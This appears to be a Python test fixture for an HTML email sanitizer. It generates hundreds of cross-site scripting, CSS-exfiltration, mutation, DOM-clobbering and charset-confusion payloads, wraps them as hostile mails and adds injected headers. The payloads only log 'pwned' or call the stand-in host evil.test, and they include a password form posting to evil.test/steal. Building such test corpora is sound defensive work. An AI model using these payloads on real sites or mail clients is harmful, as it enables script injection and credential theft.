"""HTML that tries to run, load, lead away or deceive: family -> payloads, each one mail.

Every payload that gets a script to run writes `pwned` to the console; every one that loads or leads somewhere does so
at `evil.test`. Most are variations of what the OWASP, PortSwigger and DOMPurify collections have in them, written anew.
"""
# ruff: noqa: E501 - a payload is one line, however long

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

RUN = "console.log(/pwned/)"
EVIL = "http://evil.test"


def decimal(text: str, end: str = ";") -> str:
    return "".join(f"&#{ord(each)}{end}" for each in text)


def padded(text: str) -> str:
    """Seven digits need no semicolon."""
    return "".join(f"&#{ord(each):07d}" for each in text)


def hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(each):x};" for each in text)


def css_escaped(text: str) -> str:
    return "".join(f"\\{ord(each):06x}" for each in text)


def data_url(markup: str, kind: str = "text/html") -> str:
    return f"data:{kind};base64,{base64.b64encode(markup.encode()).decode()}"


SCRIPT = f"<script>{RUN}</script>"
IMG = f"<img src=x onerror={RUN}>"

FAMILIES: dict[str, list[str]] = {
    "script": [
        SCRIPT,
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<ScRiPt >{RUN}</sCrIpT >",
        f"<script src={EVIL}/x.js></script>",
        "<script src=//evil.test/x.js></script>",
        f"<script type=module>{RUN}</script>",
        f"<script type=module>import '{EVIL}/m.js'</script>",
        f'<script type="text/vbscript">{RUN}</script>',
        f"<script/x>{RUN}</script>",
        f"<script\n>{RUN}</script\n>",
        f"<script\x0c>{RUN}</script>",
        f"<script defer async nonce=abc>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"<script>/*</script><script>*/{RUN}</script>",
        f"<script>{RUN}",
        f"<script src=data:text/javascript,{RUN}></script>",
        f"<script>\u2028{RUN}\u2029</script>",
        f"<div><script>document.write('<img src={EVIL}/w>')</script></div>",
        f'<script type="importmap">{{"imports":{{"x":"{EVIL}/x.js"}}}}</script><script type=module>import "x"</script>',
        f'<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{EVIL}/s"]}}]}}</script>',
    ],
    "event handlers": [
        IMG,
        f"<img src=x:x onerror={RUN}>",
        f"<img src onerror={RUN}>",
        f"<img/src=x/onerror={RUN}>",
        f"<img src=x onerror\n=\n{RUN}>",
        f"<img src=x ONERROR={RUN}>",
        f"<img src=x onerror=`{RUN}`>",
        f'<img src=x onerror="{decimal(RUN)}">',
        f"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload={RUN}>",
        f"<img srcset=x onerror={RUN}>",
        f"<img src=x title='\" onerror={RUN} x=\"'>",
        f"<image src=x onerror={RUN}>",
        f"<body onload={RUN}>",
        f"<body onpageshow={RUN}>",
        f"<body onresize={RUN} onscroll={RUN} onfocus={RUN} onhashchange={RUN}>",
        f"<frameset onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<select autofocus onfocus={RUN}><option>x</select>",
        f"<textarea autofocus onfocus={RUN}></textarea>",
        f"<button autofocus onfocus={RUN}>x</button>",
        f"<a href=# autofocus onfocus={RUN}>x</a>",
        f"<div tabindex=1 autofocus onfocus={RUN}>x</div>",
        f"<p contenteditable autofocus onfocus={RUN}>x</p>",
        f"<video autoplay onloadstart={RUN}><source src=x></video>",
        f"<video src=x onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}></audio>",
        f"<video><source onerror={RUN} src=x></video>",
        f"<details open ontoggle={RUN}><summary>x</summary></details>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<marquee loop=1 width=0 onfinish={RUN}>x</marquee>",
        f"<meter onmouseover={RUN}>x</meter>",
        f"<div style='animation:x 1s' onanimationstart={RUN}>x</div><style>@keyframes x{{}}</style>",
        f"<div style='transition:color .1s' ontransitionend={RUN}>x</div>",
        f"<div onpointerenter={RUN} style='width:100vw;height:100vh'>x</div>",
        f"<div oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>x</div>",
        f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>y</div>",
        f"<xss onfocus={RUN} autofocus tabindex=1>x</xss>",
        f"<object data=x onerror={RUN}></object>",
        f"<link rel=stylesheet href=x onerror={RUN}>",
        f"<style onload={RUN}>a{{}}</style>",
        f"<script src=x onerror={RUN}></script>",
        f"<iframe onload={RUN}></iframe>",
    ],
    "javascript: addresses": [
        f"<a href=javascript:{RUN}>click</a>",
        f"<a href=JaVaScRiPt:{RUN}>click</a>",
        f'<a href=" javascript:{RUN}">click</a>',
        f'<a href="java\tscript:{RUN}">click</a>',
        f'<a href="java\nscript:{RUN}">click</a>',
        f'<a href="java&Tab;script:{RUN}">click</a>',
        f'<a href="java&NewLine;script&colon;{RUN}">click</a>',
        f'<a href="\x01javascript:{RUN}">click</a>',
        f'<a href="&#1;javascript:{RUN}">click</a>',
        f'<a href="javascript&#58;{RUN}">click</a>',
        f'<a href="javascript&#0000058{RUN}">click</a>',
        f'<a href="javascript://evil.test/%0a{RUN}">click</a>',
        '<a href="javascript:%63onsole.log(/pwned/)">click</a>',
        f'<a href="{decimal("javascript:" + RUN)}">click</a>',
        '<a href="vbscript:MsgBox(1)">click</a>',
        f'<a href="livescript:{RUN}">click</a>',
        f'<a href="view-source:javascript:{RUN}">click</a>',
        f'<a href="feed:javascript:{RUN}">click</a>',
        f'<a href="blob:{EVIL}/x">click</a>',
        f'<a href="filesystem:{EVIL}/x">click</a>',
        f"<img src=javascript:{RUN}>",
        f"<iframe src=javascript:{RUN}></iframe>",
        f"<embed src=javascript:{RUN}>",
        f"<form action=javascript:{RUN}><input type=submit autofocus></form>",
        f"<button formaction=javascript:{RUN} form=f>x</button><form id=f></form>",
        f"<body background=javascript:{RUN}>",
        f"<table background=javascript:{RUN}><tr><td background=javascript:{RUN}>x</table>",
        f"<input type=image src=javascript:{RUN}>",
        f"<area href=javascript:{RUN}>",
        f"<a xlink:href=javascript:{RUN}>click</a>",
    ],
    "SVG": [
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=data:text/javascript,{RUN} /></svg>",
        f"<svg><script>{hexadecimal(RUN)}</script></svg>",
        f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<svg><animate xlink:href=#a attributeName=href values=javascript:{RUN} /><a id=a><text y=20>x</text></a></svg>",
        f"<svg><set attributeName=onmouseover to={RUN}></svg>",
        f"<svg><set attributeName=href to=javascript:{RUN} xlink:href=#a></svg><a id=a href=#>x</a>",
        f"<svg><image href={EVIL}/svg.png onerror={RUN}></image></svg>",
        f"<svg><use href={EVIL}/sprite.svg#x></use></svg>",
        f"<svg><use href='{data_url('<svg id=x xmlns=http://www.w3.org/2000/svg><script>' + RUN + '</script></svg>', 'image/svg+xml')}#x'></use></svg>",
        f"<svg><feImage href={EVIL}/fe.png /></svg>",
        f"<svg><foreignObject><iframe srcdoc='{SCRIPT}'></iframe></foreignObject></svg>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
        f"<svg><style>@import '{EVIL}/svg.css'</style></svg>",
        f"<svg><style><img title='</style><img src=x onerror={RUN}>'></svg>",
        f"<svg><title><style><img title='</title><img src=x onerror={RUN}>'></style></title></svg>",
        f"<svg><desc><noscript><p title='</noscript><img src=x onerror={RUN}>'></desc></svg>",
        f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
        f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{RUN}</handler></svg>",
        f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
        f"<svg xmlns:x=http://www.w3.org/1999/xlink><x:script>{RUN}</x:script></svg>",
    ],
    "MathML and mutation": [
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'></table>",
        f"<math><mi><table><mi><mglyph><style><math href=javascript:{RUN}>x</math></style></table></mi></math>",
        f"<math href=javascript:{RUN}>click</math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
        f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror={RUN}>'>",
        f"<svg><p><style><g title='</style><img src=x onerror={RUN}>'>",
        f"<p><math><mi><style><!--</style><img src=x onerror={RUN}>--></mi></math>",
        f"<table><a href='<img src=x onerror={RUN}>'><tr><td>x",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
        f"<plaintext><img src=x onerror={RUN}>",
        f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
        f"<textarea><a title='</textarea><img src=x onerror={RUN}>'></textarea>",
        f"<noembed><a title='</noembed><img src=x onerror={RUN}>'></noembed>",
        f"<noframes><a title='</noframes><img src=x onerror={RUN}>'></noframes>",
        f"<iframe><a title='</iframe><img src=x onerror={RUN}>'></iframe>",
        f"<a title='`><img src=x onerror={RUN}>'>x</a>",
        f"{'<div>' * 500}{IMG}{'</div>' * 500}",
        f"{'<b><i>' * 300}{IMG}",
        f"{'<table><tr><td>' * 200}<style><img src=x onerror={RUN}>",
    ],
    "style": [
        f"<style>@import '{EVIL}/a.css';</style>",
        f"<style>@import url({EVIL}/b.css);</style>",
        f"<STYLE>@im\\port'{EVIL}/c.css';</STYLE>",
        f"<style>body{{background:url({EVIL}/d.png)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}body{{font-family:x}}</style>",
        f"<style>*{{cursor:url({EVIL}/cur.cur),auto}}</style>",
        f"<style>p::before{{content:url({EVIL}/e.png)}}</style><p>x</p>",
        f"<link rel=stylesheet href={EVIL}/g.css>",
        f"<div style='background:url({EVIL}/h.png)'>x</div>",
        f"<div style='background-image:url(&quot;{EVIL}/i.png&quot;)'>x</div>",
        f"<div style='background:{css_escaped('url')}({EVIL}/j.png)'>x</div>",
        f"<div style='background:u\\72l({EVIL}/k.png)'>x</div>",
        f"<div style='background:/**/url/**/({EVIL}/l.png)'>x</div>",
        f"<div style='background:image-set(&quot;{EVIL}/m.png&quot; 1x)'>x</div>",
        f"<div style='background:-webkit-image-set(url({EVIL}/n.png) 1x)'>x</div>",
        f"<div style='background:cross-fade(url({EVIL}/o.png),white,50%)'>x</div>",
        f"<div style='list-style:url({EVIL}/p.png);display:list-item'>x</div>",
        f"<div style='border-image:url({EVIL}/q.png) 1'>x</div>",
        f"<div style='mask:url({EVIL}/r.svg#x);filter:url({EVIL}/s.svg#x);clip-path:url({EVIL}/t.svg#x)'>x</div>",
        f"<div style='shape-outside:url({EVIL}/u.png);float:left'>x</div>",
        f"<div style='width:expression({RUN})'>x</div>",
        f"<div style='-moz-binding:url({EVIL}/v.xml#x);behavior:url({EVIL}/w.htc)'>x</div>",
        f"<div style='--x:url({EVIL}/x.png);background:var(--x)'>x</div>",
        f"<div style='font-family:\"\\22;background:url({EVIL}/y.png);\\22\"'>x</div>",
        f"<div style='color:red;}}body{{background:url({EVIL}/z.png)}}'>x</div>",
        "<div style='position:fixed;inset:0;z-index:2147483647;background:white'>Please sign in again</div>",
        "<div style='position:absolute;top:-9999px;margin:-9999px;transform:scale(99)'>over</div>",
        f"<a href={EVIL}/cover style='position:fixed;inset:0;opacity:0'>x</a>",
        f"<style>{{}}</style><style>a[href^='h']{{background:url({EVIL}/leak)}}</style><a href=http://x.test>x</a>",
        f"<style><!--</style>{SCRIPT}--></style>",
    ],
    "base, meta and link": [
        f"<base href={EVIL}/><a href=x>x</a><img src=y>",
        f"<base href=javascript:/><a href=#/{RUN}>x</a>",
        f"<base target=_top><a href={EVIL}/top>x</a>",
        f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
        f"<meta http-equiv=refresh content='0; url=javascript:{RUN}'>",
        f"<meta http-equiv=refresh content='0;url={data_url(SCRIPT)}'>",
        f"<META HTTP-EQUIV='refresh' CONTENT='0;{EVIL}/refresh2'>",
        "<meta http-equiv=Set-Cookie content='sessionid=evil'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">" + SCRIPT,
        "<meta http-equiv=content-type content='text/html;charset=utf-7'>+ADw-script+AD4-console.log(/pwned/)+ADw-/script+AD4-",
        "<meta name=referrer content=unsafe-url><img src=http://evil.test/referrer>",
        f"<link rel=prefetch href={EVIL}/prefetch>",
        f"<link rel=preload as=image href={EVIL}/preload>",
        f"<link rel=modulepreload href={EVIL}/module.js>",
        f"<link rel=preconnect href={EVIL}>",
        "<link rel=dns-prefetch href=//evil.test>",
        f"<link rel=prerender href={EVIL}/prerender>",
        f"<link rel=icon href={EVIL}/favicon.ico>",
        f"<link rel=manifest href={EVIL}/manifest.json>",
        f"<link rel=import href={EVIL}/import.html>",
        f"<link rel='stylesheet' href=data:text/css,*{{background:url({EVIL}/css-data)}}>",
        f"<html manifest={EVIL}/cache.appcache>x",
        f"<head profile={EVIL}/profile>x",
    ],
    "forms": [
        f"<form action={EVIL}/steal><input name=password type=password><button>Sign in</button></form>",
        f"<form action={EVIL}/steal method=post><input type=hidden name=a value=b><input type=submit></form>",
        f"<input form=mail-form formaction={EVIL}/steal type=submit value=x>",
        f"<button formaction={EVIL}/steal formtarget=_top>x</button>",
        f"<isindex action={EVIL}/steal type=submit>",
        f"<keygen autofocus onfocus={RUN}>",
        "<form id=document><input name=cookie></form>",
        f"<form><input name=attributes><input name=parentNode></form>{IMG}",
        "<form action=/accounts/logout/ method=post><button>Log out</button></form>",
        f"<textarea form=x name=y>{SCRIPT}</textarea>",
        "<input type=file multiple><input type=color><input type=date autofocus>",
        f"<dialog open><form method=dialog action={EVIL}/d><button autofocus>x</button></form></dialog>",
    ],
    "frames and plug-ins": [
        f"<iframe src={EVIL}/frame></iframe>",
        f"<iframe srcdoc='{SCRIPT}'></iframe>",
        f"<iframe srcdoc='{decimal(SCRIPT)}'></iframe>",
        f"<iframe src='{data_url(SCRIPT)}'></iframe>",
        f"<iframe src=about:blank onload={RUN}></iframe>",
        f"<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' src={EVIL}/frame2></iframe>",
        f"<iframe/src='{data_url(SCRIPT)}'/>",
        f"<frameset><frame src={EVIL}/frame3></frameset>",
        f"<frameset><frame src=javascript:{RUN}></frameset>",
        f"<object data={EVIL}/object></object>",
        f"<object data='{data_url(SCRIPT)}' type=text/html></object>",
        f"<object type=text/x-scriptlet data={EVIL}/scriptlet></object>",
        f"<object classid=clsid:333C7BC4-460F-11D0-BC04-0080C7055A83><param name=dataurl value=javascript:{RUN}></object>",
        f"<embed src={EVIL}/embed.swf allowscriptaccess=always>",
        f"<embed src='{data_url(SCRIPT, 'image/svg+xml')}'>",
        f"<applet code=x codebase={EVIL}/applet></applet>",
        f"<portal src={EVIL}/portal></portal>",
        f"<fencedframe src={EVIL}/fenced></fencedframe>",
        f"<layer src={EVIL}/layer></layer>",
        f"<bgsound src={EVIL}/sound>",
    ],
    "images and media": [
        f"<img src={EVIL}/pixel.gif width=1 height=1>",
        "<img src=//evil.test/pixel2.gif>",
        "<img src='\\\\evil.test\\pixel3.gif'>",
        f"<img srcset='{EVIL}/s1 1x, {EVIL}/s2 2x'>",
        f"<img src=x lowsrc={EVIL}/low dynsrc={EVIL}/dyn longdesc={EVIL}/long>",
        f"<img loading=eager fetchpriority=high src={EVIL}/eager>",
        "<img src=ftp://evil.test/ftp.gif>",
        f"<img src='{data_url('<svg xmlns=http://www.w3.org/2000/svg onload=' + RUN + '><image href=' + EVIL + '/nested /></svg>', 'image/svg+xml')}'>",
        f"<img src=cid:x%22onerror={quote(RUN)}>",
        f"<img alt='><img src=x onerror={RUN}>' src=cid:1>",
        f"<picture><source srcset={EVIL}/pic><img src=x></picture>",
        f"<video poster={EVIL}/poster src={EVIL}/v autoplay></video>",
        f"<audio src={EVIL}/a autoplay preload=auto></audio>",
        f"<video><track default kind=captions src={EVIL}/t.vtt></video>",
        f"<input type=image src={EVIL}/input.png>",
        f"<table background={EVIL}/table.png><tr background={EVIL}/tr.png><td background={EVIL}/td.png>x</table>",
        f"<body background={EVIL}/body.png>",
        f"<a href={EVIL}/ping ping={EVIL}/ping2>x</a>",
        f"<a href={EVIL}/attribution attributionsrc={EVIL}/as>x</a><img attributionsrc={EVIL}/as2>",
        f"<map name=m><area href={EVIL}/area shape=default></map><img usemap=#m src=cid:1>",
    ],
    "templates and noscript": [
        f"<template>{SCRIPT}</template>",
        f"<template shadowrootmode=open>{SCRIPT}{IMG}</template>",
        f"<div><template shadowrootmode=open><style>@import '{EVIL}/shadow.css'</style>{IMG}</template></div>",
        f"<noscript><img src=x onerror={RUN}></noscript>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
        f"<noscript><style></noscript><img src=x onerror={RUN}>",
        f"<noscript><noscript></noscript>{IMG}</noscript>",
        f"<slot onslotchange={RUN}>x</slot>",
        f"<xss is=x-y {RUN}>x</xss>",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"<div ng-app ng-csp>{{{{$on.constructor('{RUN}')()}}}}</div>",
        f"<div v-html=\"'{IMG}'\" x-data x-init={RUN}>x</div>",
        f"<div hx-get={EVIL}/htmx hx-trigger=load hx-on:load={RUN} data-hx-get=/app/domains>x</div>",
        "<div data-confirm=x data-copy=x data-submit data-when=x>x</div>",
        "{% load x %}{{ settings.SECRET_KEY }}",
    ],
    "DOM clobbering": [
        "<a id=htmx></a><a id=htmx name=config href=x:y>x</a>",
        "<img name=getElementById><img name=querySelector><img name=body>",
        "<form name=forms><input name=length></form>",
        f"<a id=defaultView></a><a id=location href={EVIL}/loc>x</a>",
        "<div id=main>x</div><div id=said>y</div><div id=new-messages>z</div>",
        "<iframe name=top></iframe><iframe name=parent></iframe>",
        "<a id=CONFIG><a id=CONFIG name=url href=javascript:1>x</a>",
        "<object name=cookie></object><object id=alert></object>",
    ],
    "encoded": [
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
        decimal(SCRIPT),
        hexadecimal(SCRIPT),
        padded(IMG),
        f"%3Cscript%3E{quote(RUN)}%3C/script%3E",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
        f"<\u0000script>{RUN}</script>",
        f"<scr\u0000ipt>{RUN}</scr\u0000ipt>",
        f"<im\u0000g src=x onerror={RUN}>",
        f"<img src=x on\u0000error={RUN}>",
        f"<\u200bscript>{RUN}</script>",
        f"<ſcript>{RUN}</ſcript>",
        f"<ıframe srcdoc='{SCRIPT}'></ıframe>",
        f"<img src=x \u3000onerror={RUN}>",
        f"<img src=x\u00a0onerror={RUN}>",
        f"<a href='&#x6A&#x61&#x76&#x61script:{RUN}'>x</a>",
        f"<a href='{EVIL}/\u202egpj.exe'>https://good.example/</a>",
    ],
    "comments and unclosed tags": [
        f"<!--><img src=x onerror={RUN}>-->",
        f"<!---><img src=x onerror={RUN}>-->",
        f"<!-- --!><img src=x onerror={RUN}>-->",
        f"<!--[if gte IE 4]>{SCRIPT}<![endif]-->",
        f"<![if !IE]>{SCRIPT}<![endif]>",
        f"<!--<img src='--><img src=x onerror={RUN}>'>",
        f"<![CDATA[<!--]]><img src=x onerror={RUN}>//-->",
        f"<?xml version='1.0'?><?xml-stylesheet href='{EVIL}/xsl'?>{SCRIPT}",
        f"<?php {SCRIPT} ?>",
        f"<!doctype html [<!entity x '{SCRIPT}'>]>&x;",
        f"</title></style></textarea></noscript></script>{SCRIPT}",
        f"</body></html>{SCRIPT}",
        f"</iframe>{SCRIPT}{IMG}",
        f"'\"></iframe>{SCRIPT}",
        f'"]></script>{SCRIPT}',
        f"<img src='{EVIL}/unclosed",
        f"<a href='{EVIL}/unclosed2",
        f"<img src=x onerror={RUN} ",
        f"<img src=x onerror={RUN}//",
        f"<iframe src={EVIL}/unclosed3",
        f"<textarea><img src='{EVIL}/dangling?",
        f"<a target='x' href={EVIL}/name>x</a><a target='",
        f"<div style='background:url({EVIL}/unclosed4",
        "<" * 20_000,
        f"{'<a ' * 5000}{IMG}",
        f"<p {'x=y ' * 5000}>{IMG}",
        f"<!{'-' * 20_000}>{IMG}",
    ],
    "data:": [
        f"<a href='{data_url(SCRIPT)}'>click</a>",
        f"<a href='data:text/html,{SCRIPT}'>click</a>",
        "<a href='DATA:text/html;charset=utf-7,+ADw-script+AD4-'>click</a>",
        f"<a download=invoice.html href='{data_url(SCRIPT)}'>save</a>",
        f"<area href='{data_url(SCRIPT)}'>",
        f"<form action='{data_url(SCRIPT)}'><button autofocus>x</button></form>",
        f"<svg><a href='{data_url(SCRIPT)}'><text y=20>x</text></a></svg>",
        f"<object data='{data_url(SCRIPT, 'application/xhtml+xml')}'></object>",
    ],
}


@dataclass(frozen=True)
class HostileMail:
    """One mail: `body` in `charset` as its sender declared it, `has_html` False where it claims to be only text."""

    name: str
    body: bytes
    charset: str = "utf-8"
    content_type: str = "text/html"


def _utf7(text: str) -> bytes:
    return b"".join(
        b"+" + base64.b64encode(c.encode("utf-16-be")).rstrip(b"=") + b"-" if c in "<>\"'" else c.encode() for c in text
    )


# The bytes say one thing in the charset that the mail declares, and another in one that a careless reader assumes.
CHARSETS: dict[str, tuple[Callable[[str], bytes], str]] = {
    "utf-7": (_utf7, "utf-7"),
    "unicode-1-1-utf-7": (_utf7, "unicode-1-1-utf-7"),
    "utf-7 called utf-8": (_utf7, "utf-8"),
    "utf-16": (lambda text: text.encode("utf-16"), "utf-16"),
    "utf-16 little-endian": (lambda text: text.encode("utf-16-le"), "utf-16le"),
    "utf-16 called utf-8": (lambda text: text.encode("utf-16-le"), "utf-8"),
    "utf-32": (lambda text: text.encode("utf-32"), "utf-32"),
    "EBCDIC": (lambda text: text.encode("cp037"), "cp037"),
    "ISO-2022-JP": (lambda text: b"\x1b(J" + text.encode() + b"\x1b(B", "iso-2022-jp"),
    "ISO-2022-JP within a tag": (lambda text: text.replace("img", "i\x1b(Bmg").encode(), "iso-2022-jp"),
    "ISO-2022-KR": (lambda text: b"\x1b$)C" + text.encode(), "iso-2022-kr"),
    "HZ": (lambda text: b"~{~}" + text.encode(), "hz-gb-2312"),
    "a half character eats the quote": (lambda text: b'<p title="\xe3">' + text.encode() + b'">', "shift_jis"),
    "overlong UTF-8": (lambda text: text.encode().replace(b"<", b"\xc0\xbc").replace(b">", b"\xc0\xbe"), "utf-8"),
    "a byte order mark": (lambda text: b"\xef\xbb\xbf" + text.encode(), "iso-8859-1"),
    "an unknown one": (lambda text: text.encode(), "x-user-defined"),
    "x-mac-roman": (lambda text: text.encode(), "x-mac-roman"),
    "one with markup in its name": (lambda text: text.encode(), '"><script>console.log(/pwned/)</script>'),
}


def hostile_mails() -> list[HostileMail]:
    """Every payload as a mail; `name` is unique and says where in the table it stands."""
    mails = [
        HostileMail(f"{family} {number}", payload.encode())
        for family, payloads in FAMILIES.items()
        for number, payload in enumerate(payloads)
    ]
    mails += [
        HostileMail(f"charset: {name}", encode(SCRIPT + IMG), charset) for name, (encode, charset) in CHARSETS.items()
    ]
    for kind in ("text/plain", "application/xhtml+xml", "image/svg+xml", "text/xml", "text/enriched"):
        mails.append(HostileMail(f"type: {kind}", (SCRIPT + IMG).encode(), content_type=kind))
    return mails


def raw(mail: HostileMail) -> bytes:
    """The mail as it travels; every header that a page shows is hostile too."""
    nasty = f'"><img src={EVIL}/header onerror={RUN}></title></iframe>{SCRIPT}'
    encoded = base64.b64encode(nasty.encode()).decode()
    head = (
        f"From: =?utf-8?b?{encoded}?= <sam@elsewhere.example>\r\nTo: =?utf-8?b?{encoded}?= <a@b.example>\r\n"
        f"Subject: {mail.name} =?utf-8?b?{encoded}?=\r\nX-Nasty: {nasty}\r\n"
        f'Content-Type: {mail.content_type}; charset="{mail.charset}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    )
    return head.encode() + base64.encodebytes(mail.body)
